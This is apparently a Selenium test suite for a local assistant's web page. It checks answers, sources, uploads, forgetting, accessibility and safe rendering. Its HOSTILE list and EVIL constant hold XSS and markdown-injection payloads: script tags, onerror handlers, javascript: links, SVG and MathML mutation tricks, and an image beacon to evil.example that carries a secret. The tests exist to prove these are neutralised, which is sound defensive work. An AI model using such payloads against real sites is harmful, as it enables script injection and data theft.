"""The page in a real browser: ask, see sources, memorize, forget, on a phone, in the dark."""

import json
import os
import re
import shutil
import subprocess
import time

import pytest
from selenium import webdriver
from selenium.webdriver import Keys
from selenium.webdriver.common.by import By
from serving import serving, tiny_assistant, tiny_world

CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
pytestmark = [
    pytest.mark.skipif(
        not (CHROMIUM and DRIVER), reason="needs Debian's packages chromium and chromium-driver"
    ),
]

EVIL = "<img src=x onerror=\"document.title='broken in'\"><b>bold"
SHOTS = os.environ.get("M3MLX_SCREENSHOTS")  # a folder, for somebody who wants to look


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in (
        *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
        *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
        *("--no-first-run", "--window-size=1280,860"),
        f"--user-data-dir={tmp_path_factory.mktemp('profile')}",
    ):
        options.add_argument(argument)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    service = webdriver.ChromeService(DRIVER, log_output=subprocess.DEVNULL)
    browser = webdriver.Chrome(options, service)
    browser.set_page_load_timeout(60)
    yield browser
    browser.quit()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    return tiny_world(tmp_path_factory.mktemp("world"))


@pytest.fixture(scope="module")
def server(world):
    (world / "notes").mkdir()
    roots = [str(world / "notes")]
    with serving(lambda: tiny_assistant(world, world / "store"), roots=roots) as running:
        yield running


TWO = {"boat.md": "The blue boat lies at pier nine.", f"{EVIL}.md": f"{EVIL} is on the boiler."}


@pytest.fixture
def page(browser, server):
    """The page, newly opened, on a store of two documents."""
    listed = server.client.get("/v1/memories").json()["data"]
    if others := [each["id"] for each in listed if each["path"].partition(":")[2] not in TWO]:
        server.post("/v1/memories/forget", ids=others)
    for session in server.client.get("/v1/sessions").json()["data"]:
        server.client.delete(f"/v1/sessions/{session['name']}")
    for name in TWO.keys() - {each["path"].partition(":")[2] for each in listed}:
        server.post("/v1/memories", text=TWO[name], name=name)
    browser.set_window_size(1280, 860)
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
    browser.get(f"{server.url}/health")  # leave what is typed or asked behind
    browser.execute_script("sessionStorage.clear(); localStorage.clear()")
    browser.get(server.url)
    until(lambda: len(browser.find_elements(By.CSS_SELECTOR, "#list li")) == 2)
    return browser


def until(condition, seconds=60):
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "it did not happen in time"
        time.sleep(0.05)


def one(page, selector):
    return page.find_element(By.CSS_SELECTOR, selector)


def texts(page, selector):
    return page.execute_script(
        "return [...document.querySelectorAll(arguments[0])].map((e) => e.innerText)", selector
    )


def all_of(page, selector):
    return page.find_elements(By.CSS_SELECTOR, selector)


def ask(page, question):
    """Ask by keyboard alone, and wait for the whole answer."""
    page.switch_to.active_element.send_keys(question, Keys.ENTER)
    until(lambda: not all_of(page, ".waiting") and one(page, "#send").is_displayed())


def shot(page, name):
    if SHOTS:
        page.save_screenshot(f"{SHOTS}/{name}.png")


def marked_words(page):
    """The words of the answer that are shown while somebody points at a source."""
    return page.execute_script(
        "return [...(CSS.highlights.get('cited') ?? [])].map(String).join('').trim().slice(0, 20)"
    )


def choose(page, mode):
    page.execute_script(f"document.querySelector('input[value={mode}]').click()")


def test_an_answer_streams_in_and_shows_which_span_drew_on_which_document(page):
    shot(page, "empty")
    ask(page, "Where is the boat?")
    assert one(page, ".question p").text == "Where is the boat?"
    line, sources = one(page, ".line").text, one(page, ".sources")
    assert line.startswith("Memory") and "first word after" in line
    assert sources.text.startswith("Drew on ") and "boat.md, line 1" in sources.text
    numbers = [number.text for number in all_of(page, ".sources > ol .number")]
    assert numbers == [str(n) for n in range(1, len(numbers) + 1)] and numbers
    assert "distance" not in sources.text.lower() and "tokens" not in sources.text.lower()
    cites = all_of(page, ".cite")
    assert {cite.text for cite in cites} <= set(numbers) and cites
    webdriver.ActionChains(page).move_to_element(one(page, ".passage")).perform()
    assert marked_words(page) in one(page, ".words").text and marked_words(page)
    cites[0].send_keys(Keys.ENTER)
    assert "passage" in page.switch_to.active_element.get_attribute("class")


def test_text_of_documents_never_becomes_part_of_the_page(page):
    ask(page, EVIL)
    assert EVIL in one(page, ".question").text
    assert EVIL in one(page, "#list").text and EVIL in one(page, ".answer").text
    assert not all_of(page, "img") and not all_of(page, "main b")
    assert page.title != "broken in"


def test_documents_are_memorized_with_progress_and_forgotten(page, server, tmp_path):
    note = tmp_path / "kite.md"
    note.write_text("A kite hangs in the pear tree. " * 200)
    (tmp_path / "program.exe").write_bytes(b"MZ")
    one(page, "#files").send_keys(f"{note}\n{tmp_path / 'program.exe'}")
    until(lambda: len(all_of(page, "#list li")) == 3)
    until(lambda: all_of(page, "#uploads .error"))
    assert "not read" in one(page, "#uploads .error").text
    assert "upload:kite.md" in server.names()
    forget = one(page, "#list button[aria-label='Forget kite.md']")
    forget.click()
    assert forget.text == "Really forget?" and "upload:kite.md" in server.names()
    forget.click()
    until(lambda: len(all_of(page, "#list li")) == 2)
    assert "upload:kite.md" not in server.names()


def test_a_file_can_be_dropped_anywhere(page, server):
    drop = """
        const data = new DataTransfer();
        data.items.add(new File(['The heron stands on one leg.'], 'heron.txt'));
        for (const kind of ['dragenter', 'dragover', 'drop'])
            document.getElementById('log').dispatchEvent(
                new DragEvent(kind, {dataTransfer: data, bubbles: true, cancelable: true}));
    """
    page.execute_script(drop)
    until(lambda: len(all_of(page, "#list li")) == 3)
    assert "upload:heron.txt" in server.names()
    assert not one(page, "#drop").is_displayed()


def test_a_look_inside_shows_what_is_kept_of_a_document_and_of_a_source(page):
    ask(page, "Where is the boat?")
    here = page.current_window_handle
    for selector, title in (
        ("#list button[aria-label='Look inside boat.md']", "text:boat.md"),
        (".passage button[aria-label='Look inside boat.md']", "text:boat.md#1"),
    ):
        one(page, selector).click()
        until(lambda: len(page.window_handles) == 2)
        page.switch_to.window(next(h for h in page.window_handles if h != here))
        try:
            until(lambda title=title: page.title == f"m3mlx: what is kept of {title}")
            assert "The blue boat lies at pier nine." in one(page, ".text").text
            shades = {
                s.value_of_css_property("background-color") for s in all_of(page, ".text span")
            }
            assert len(shades) > 1 and all_of(page, "rect.cell")
            shot(page, "inside")
        finally:
            page.close()
            page.switch_to.window(here)


def test_the_three_kinds_of_memory_stand_side_by_side(page):
    choose(page, "compare")
    one(page, "#question").click()
    ask(page, "Where is the boat?")
    assert [title.text for title in all_of(page, ".side .mode")] == ["Memory", "Text", "Off"]
    assert len(all_of(page, ".side .sources")) == 2  # off draws on nothing
    shot(page, "compare")
    choose(page, "off")
    one(page, "#question").click()
    ask(page, "And now?")  # goes on with its own answer
    assert not all_of(page, ".error")
    assert len(all_of(page, ".turn > .answer")) == 1


def test_escape_stops_an_answer_and_a_new_conversation_begins_empty(page):
    page.switch_to.active_element.send_keys("Where?", Keys.ENTER)
    until(lambda: all_of(page, ".waiting"))
    page.switch_to.active_element.send_keys(Keys.ESCAPE)
    until(lambda: not all_of(page, ".waiting"))
    assert not all_of(page, ".error")
    one(page, "#reset").click()
    assert not all_of(page, ".turn") and one(page, "#welcome").is_displayed()
    ask(page, "Again?")
    assert not all_of(page, ".error")


def test_everything_is_reached_by_keyboard(page):
    wanted, seen = {"question", "send", "reset", "add", "mode"}, set()
    for _ in range(20):
        element = page.switch_to.active_element
        seen |= {element.get_attribute("id"), element.get_attribute("name")}
        if element.get_attribute("aria-label"):
            seen.add("forget")
        element.send_keys(Keys.TAB)
    assert wanted | {"forget"} <= seen


def test_on_a_phone_nothing_is_wider_than_the_screen(page):
    page.execute_cdp_cmd(
        "Emulation.setDeviceMetricsOverride",
        {"width": 390, "height": 844, "deviceScaleFactor": 2, "mobile": True},
    )
    try:
        ask(page, "Where is the boat?")
        shot(page, "phone")
        assert not one(page, "#documents").is_displayed()
        one(page, "#show-documents").click()
        assert one(page, "#documents").is_displayed()
        shot(page, "phone-documents")
        assert page.execute_script("return document.documentElement.scrollWidth") <= 390
    finally:
        page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_it_is_dark_where_dark_is_preferred(page):
    def brightness(what):
        colour = page.execute_script(
            f"return getComputedStyle(document.documentElement).{what}.match(/[0-9]+/g)"
        )
        return sum(map(int, colour[:3])) / 3

    assert brightness("backgroundColor") > 200 > 100 > brightness("color")
    dark = {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
    page.execute_cdp_cmd("Emulation.setEmulatedMedia", dark)
    assert brightness("backgroundColor") < 60 < 180 < brightness("color")
    ask(page, "Where is the boat?")
    shot(page, "dark")


# --- Markdown, without a model

RENDER = """
    const [text, ends, done] = arguments;
    import(new URL('page/markdown.js', location.href)).then(({ render }) => {
        const { fragment, edges } = render(text, ends);
        const shown = document.createElement('div');
        shown.className = 'words';
        shown.style.width = '360px';
        edges.forEach((edge, i) => edge.append(`[${i}]`));
        shown.append(fragment);
        document.getElementById('log').replaceChildren(shown);
        done(shown.innerHTML);
    });
"""


def rendered(page, text, *ends):
    return page.execute_async_script(RENDER, text, ends)


def test_markdown_becomes_tables_code_and_formulas(page):
    html = rendered(
        page,
        "# Head\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nreturn 'x'\n```\n\n"
        "It costs $5 and $6, but $a_1 + b$ and \\(c\\) are formulas.\n\n$$\\frac{1}{2}$$",
    )
    assert "<h1" in html and '<td class="align-right"' in html and "hljs-keyword" in html
    assert "$5 and $6" in html and html.count("<math") == 3 and "<mfrac>" in html
    assert one(page, ".code .copy").text == "Copy"
    one(page, ".code .copy").click()
    until(lambda: one(page, "#notice").text == "Copied.")


HOSTILE = [
    "<script>document.title = 'broken in'</script>",
    "<img src=x onerror=\"document.title='broken in'\">",
    "[a](javascript:document.title='broken%20in')",
    "[a](java\nscript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<b>1</b>)",
    "[a]: vbscript:x\n\n[a] <javascript:alert(1)> [b](/v1/memories) [c](//evil.example)",
    "![pixel](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "$\\href{javascript:alert(1)}{x} \\class{evil}{y} \\includegraphics{https://evil.example}$",
    "$" + "\\def\\a{\\a\\a}\\a" + "$",
    '```html" onmouseover="alert(1)\n<b>x</b>\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<form action=//evil.example><input><button>x</button></form><base href=//evil.example>",
    "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + ("|" + "b|" * 300 + "\n") * 30,
    "> " * 200 + "deep",
    "[" * 2000 + "*" * 2000 + "_a_" * 2000,
    "Donaudampfschifffahrtsgesellschaft" * 40,
    "\u202egnp.exe\u202c \u2066x",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_markdown_stays_words(browser, server, text):
    if not browser.current_url.startswith(server.url):
        browser.get(server.url)
        until(lambda: browser.execute_script("return !!globalThis.DOMPurify"))
    rendered(browser, text, 5, len(text) // 2, len(text))
    left = browser.execute_script(
        """
        const shown = document.querySelector('.words'), all = [...shown.querySelectorAll('*')];
        return [
            all.map((e) => e.localName).filter((name) => arguments[0].includes(name)),
            all.flatMap((e) => [...e.attributes].map((a) => a.name))
                .filter((name) => /^on|^style$|^src/i.test(name)),
            all.filter((e) => e.localName === 'a').map((a) => a.getAttribute('href')),
            document.documentElement.scrollWidth <= innerWidth,
            shown.scrollWidth - shown.clientWidth,
            shown.querySelectorAll('.edge').length,
        ]
        """,
        "script style img svg iframe form input base object embed link meta".split(),
    )
    elements, attributes, links, fits, wider, edges = left
    assert elements == [] and attributes == [] and browser.title != "broken in"
    assert all(link and link.startswith("https://evil.example/?q=") for link in links), links
    assert fits and wider <= 1 and edges == 3


def test_the_end_of_each_span_is_found_whatever_the_markdown(page):
    text = (
        "One two three.\n\n```sh\nls -l # four five\nmake\n```\n\n- six **seven** eight\n- nine\n\n"
        "| ten | eleven |\n|---|---|\n| twelve | thirteen |\n\n"
        "[fourteen fifteen](https://x.example/a b) $a + b$ `sixteen seventeen` end"
    )
    whole = rendered(page, text)
    plain = one(page, ".words").text
    for first in range(0, len(text), 3):
        ends = (first, min(first + 20, len(text)), len(text))
        html = rendered(page, text, *ends)
        places = [html.index(f"[{i}]") for i in range(3)]
        assert places == sorted(places)
        page.execute_script("document.querySelectorAll('.edge').forEach((e) => e.remove())")
        assert one(page, ".words").text == plain, ends  # no mark changes what the text means
    assert whole.count("\ue000") == 0


# --- conversations that last


def test_a_reload_loses_nothing_and_earlier_ones_are_found_renamed_and_deleted(page):
    ask(page, "Where is the boat?")
    before = one(page, ".turn .words").text, one(page, ".sources").text
    until(lambda: all_of(page, "#kept li.current"))
    page.find_element(By.ID, "question").send_keys("half a quest")
    page.refresh()
    until(lambda: "pier nine" in " ".join(texts(page, ".sources")))
    assert (one(page, ".turn .words").text, one(page, ".sources").text) == before
    assert one(page, ".line").text.startswith("Memory")
    assert one(page, "#question").get_attribute("value") == "half a quest"
    one(page, "#reset").click()
    one(page, "#question").clear()
    one(page, "#question").click()
    ask(page, "Who paints the fence?")
    until(lambda: len(all_of(page, "#kept li")) == 2)
    one(page, "#find-conversation").send_keys("FENCE")
    until(lambda: texts(page, "#kept .open") == ["Who paints the fence"])
    one(page, "#kept button[aria-label^=Rename]").click()
    page.switch_to.active_element.send_keys(Keys.CONTROL, "a")
    page.switch_to.active_element.send_keys("The fence", Keys.ENTER)
    until(lambda: texts(page, "#kept .open") == ["The fence"])
    assert page.title.startswith("The fence")
    page.execute_script(
        "const f = document.getElementById('find-conversation'); f.value = '';"
        "f.dispatchEvent(new Event('input'))"
    )
    until(lambda: len(all_of(page, "#kept li")) == 2)
    one(page, "button[title^='Where is the boat']").click()
    until(lambda: texts(page, "#kept [aria-current]") == ["Where is the boat"])
    assert texts(page, ".question p") == ["Where is the boat?"]
    delete = one(page, "button[aria-label='Delete Where is the boat']")
    delete.click()
    delete.click()
    until(lambda: texts(page, "#kept .open") == ["The fence"])
    assert not all_of(page, ".turn")


def test_an_answer_is_made_again_a_question_edited_and_nothing_is_lost(page, server):
    ask(page, "Where is the boat?")
    one(page, "button[aria-label='Answer this question again']").click()
    until(lambda: all_of(page, ".answer") and not all_of(page, ".waiting"))
    one(page, "#question").click()
    ask(page, "And the kite?")
    assert len(all_of(page, ".turn")) == 2
    one(page, "button[aria-label='Edit this question']").click()
    assert one(page, "#editing").is_displayed()
    page.switch_to.active_element.send_keys(Keys.CONTROL, "a")
    ask(page, "Where is the canoe?")
    assert texts(page, ".question p") == ["Where is the canoe?"]
    until(lambda: len(all_of(page, "#kept li")) == 2)  # the course before the edit stays
    kept = server.client.get("/v1/sessions/Where is the boat").json()["data"]
    assert [m["content"] for m in kept if m["role"] == "user"] == [
        "Where is the boat?",
        "And the kite?",
    ]


def test_a_question_that_fails_is_kept_and_can_be_asked_again(page):
    page.execute_script(
        "window.real = fetch; window.fetch = (path, ...more) => String(path).includes('chat/')"
        " ? Promise.reject(new TypeError('gone')) : real(path, ...more)"
    )
    ask(page, "Where is the boat?")
    error = one(page, ".answer .error").text
    assert "cannot be reached" in error and "try again" in error
    assert one(page, ".question p").text == "Where is the boat?"
    until(lambda: all_of(page, "#kept li"))
    page.refresh()
    until(lambda: all_of(page, ".answer .error"))
    one(page, ".retry").click()
    until(lambda: all_of(page, ".sources"))
    assert not all_of(page, ".error") and len(all_of(page, ".turn")) == 1


def test_what_is_read_is_shown_before_the_first_word(page):
    page.execute_script("""
        window.lines = [];
        new MutationObserver(() => window.lines.push(document.querySelector('.state')?.textContent))
            .observe(document.getElementById('log'), {subtree: true, childList: true});
    """)
    ask(page, "Where is the boat?")
    lines = page.execute_script("return window.lines")
    reading = next(i for i, line in enumerate(lines) if (line or "").startswith("Reading "))
    answering = next(i for i, line in enumerate(lines) if (line or "").startswith("Read "))
    assert reading < answering and "boat.md" in lines[reading]


# --- documents and settings


def test_an_upload_shows_progress_at_once_and_can_be_cancelled(page, server):
    page.execute_script("""
        XMLHttpRequest.prototype.send = function () {
            this.upload.dispatchEvent(new ProgressEvent('progress', {loaded: 3, total: 4}));
        };
        const data = new DataTransfer();
        for (const name of ['a.md', 'b.md']) data.items.add(new File(['x'.repeat(4000)], name));
        const field = document.getElementById('files');
        field.files = data.files;
        field.dispatchEvent(new Event('change'));
    """)
    first, second = all_of(page, "#uploads li")
    assert "sending, 75 %" in first.text and "waiting, 4.0 kB" in second.text
    assert "2 files left" in one(page, "#uploading").text
    first.find_element(By.CSS_SELECTOR, "button[aria-label='Cancel a.md']").click()
    until(lambda: len(all_of(page, "#uploads li")) == 1)
    one(page, "button[aria-label='Cancel b.md']").click()
    until(lambda: not all_of(page, "#uploads li"))
    assert len(server.names()) == 2


def test_a_folder_keeps_its_places_and_leaves_out_what_cannot_be_read(page, server, tmp_path):
    for place in ("garden/one.md", "garden/deep/one.md", "garden/photo.png"):
        (tmp_path / place).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / place).write_text(f"This is {place}.")
    one(page, "#folder").send_keys(str(tmp_path / "garden"))
    until(lambda: len(all_of(page, "#list li")) == 4)
    assert {"upload:garden/one.md", "upload:garden/deep/one.md"} <= set(server.names())
    assert not all_of(page, "#uploads .error")


def test_many_documents_are_paged_filtered_and_forgotten_together(page, server, world):
    for number in range(60):
        (world / "notes" / f"note-{number:02}.txt").write_text(f"Note {number}.")
    server.post("/v1/memories", paths=[str(world / "notes")])
    page.refresh()
    until(lambda: texts(page, "#page-now") == ["1 to 50 of 62"])
    assert one(page, "#list .name").text.startswith("note-")  # the newest first
    one(page, "#find").send_keys("BOAT")
    until(lambda: texts(page, "#list .name") == ["boat.md"])
    one(page, "#find").clear()
    one(page, "#find").send_keys(" ")
    until(lambda: texts(page, "#page-now") == ["1 to 50 of 62"])
    one(page, "#later").click()
    until(lambda: texts(page, "#page-now") == ["51 to 62 of 62"])
    page.execute_script(
        "const f = document.getElementById('filter-type'); f.value = 'md';"
        "f.dispatchEvent(new Event('input'))"
    )
    until(lambda: len(all_of(page, "#list li")) == 2)
    page.execute_script(
        "const f = document.getElementById('filter-type'); f.value = 'txt';"
        "f.dispatchEvent(new Event('input'))"
    )
    until(lambda: len(all_of(page, "#list li")) == 50)
    one(page, "#list input").click()
    assert "1 document chosen" in one(page, "#chosen").text
    one(page, "#choose-all").click()
    until(lambda: "60 documents chosen" in one(page, "#chosen").text)
    shot(page, "many")
    one(page, "#forget-chosen").click()
    one(page, "#forget-chosen").click()
    until(lambda: len(all_of(page, "#list li")) == 0)
    assert len(server.names()) == 2


def test_progress_of_memories_that_are_being_written_is_shown(page, server):
    page.execute_script("""
        const real = fetch;
        window.cold = 3;
        window.fetch = async (path, options) => {
            const answer = await real(path, options);
            if (!String(path).endsWith('memories/status')) return answer;
            return Response.json({...await answer.json(), references: 8, cold: window.cold});
        };
        document.getElementById('sort').dispatchEvent(new Event('input'));
    """)
    until(lambda: "8 references, 3 not written yet" in one(page, "#store").text)
    assert one(page, "#writing").is_displayed()
    assert page.execute_script("return document.getElementById('writing').value") == 5
    page.execute_script("window.cold = 0")
    until(lambda: not one(page, "#writing").is_displayed())
    assert "not written" not in one(page, "#store").text


def test_settings_reach_the_model_and_stay(page):
    assert re.fullmatch(r"decoder · \d+ thousand", one(page, "#about").text)
    one(page, "#about").click()
    assert "decoder" in one(page, "#model-facts").text
    assert "parameters" in one(page, "#model-facts").text
    assert "m3mlx serve --model" in one(page, "#settings").text
    page.execute_script("""
        const set = (id, value) => {
            document.getElementById(id).value = value;
            document.getElementById(id).dispatchEvent(new Event('input', {bubbles: true}));
        };
        set('set-temperature', '0.5');
        set('set-length', '7');
        set('set-system', 'Be brief.');
        window.bodies = [];
        const real = fetch;
        window.fetch = (path, options) => {
            if (String(path).includes('chat/')) window.bodies.push(JSON.parse(options.body));
            return real(path, options);
        };
    """)
    page.switch_to.active_element.send_keys(Keys.ESCAPE)
    one(page, "#question").click()
    ask(page, "Where is the boat?")
    (body,) = page.execute_script("return window.bodies")
    assert (body["temperature"], body["max_tokens"], body["memory"]) == (0.5, 7, "explicit")
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert "cut at the length" in one(page, ".line").text
    page.refresh()
    until(lambda: one(page, "#show-settings").text == "Settings •")
    assert one(page, "#set-system").get_attribute("value") == "Be brief."


@pytest.mark.slow  # the samples, by the interface alone, are in test_serve_page.py
def test_the_first_visit_begins_with_samples_and_questions_about_them(browser, world):
    with serving(lambda: tiny_assistant(world, world / "other")) as running:
        browser.get(running.url)
        browser.execute_script("sessionStorage.clear(); localStorage.clear()")
        until(lambda: one(browser, "#try-demo").is_displayed())
        ask(browser, "Hello?")  # without documents, and without a store to keep it in
        assert one(browser, ".mode").text == "Off"
        browser.refresh()
        until(lambda: texts(browser, ".question p") == ["Hello?"])
        one(browser, "#reset").click()
        one(browser, "#try-demo").click()
        until(lambda: len(all_of(browser, "#list li")) == 8)
        until(lambda: all_of(browser, ".example"))
        assert not one(browser, "#begin").is_displayed()
        one(browser, ".example").click()
        until(lambda: all_of(browser, ".sources"))
        assert one(browser, ".question p").text == "Who founded Wrenmoor Observatory?"
        browser.get("about:blank")


def test_nothing_moves_that_stands(page):
    """Layout shifts of a visit, as the browser counts them."""
    page.execute_script("""
        window.shift = 0;
        new PerformanceObserver((list) => {
            const moved = list.getEntries().filter((entry) => !entry.hadRecentInput);
            for (const entry of moved) window.shift += entry.value;
        }).observe({type: 'layout-shift', buffered: true});
    """)
    for question in ("Where is the boat?", "And the kite?"):
        ask(page, question)
    time.sleep(0.3)
    assert page.execute_script("return window.shift") < 0.1


def test_a_server_with_a_token_asks_for_it(browser, world):
    token = "nine brass buttons"
    with serving(lambda: tiny_assistant(world, world / "none"), token=token) as running:
        browser.get(running.url)
        until(lambda: one(browser, "#login").is_displayed())
        shot(browser, "login")
        browser.switch_to.active_element.send_keys(token, Keys.ENTER)
        until(lambda: one(browser, "#about").text.startswith("decoder"))


def test_nothing_was_asked_of_anybody_else_and_nothing_complained(browser, server):
    """Last, since it reads the logs of all tests above."""
    for entry in browser.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            url = message["params"]["request"]["url"]
            assert url.startswith(("http://127.0.0.1:", "data:", "chrome:", "about:")), url
    complaints = [entry["message"] for entry in browser.get_log("browser")]
    expected = ("401", "415", "404")  # the login, the file that is no document, no store yet
    assert [text for text in complaints if not any(word in text for word in expected)] == []
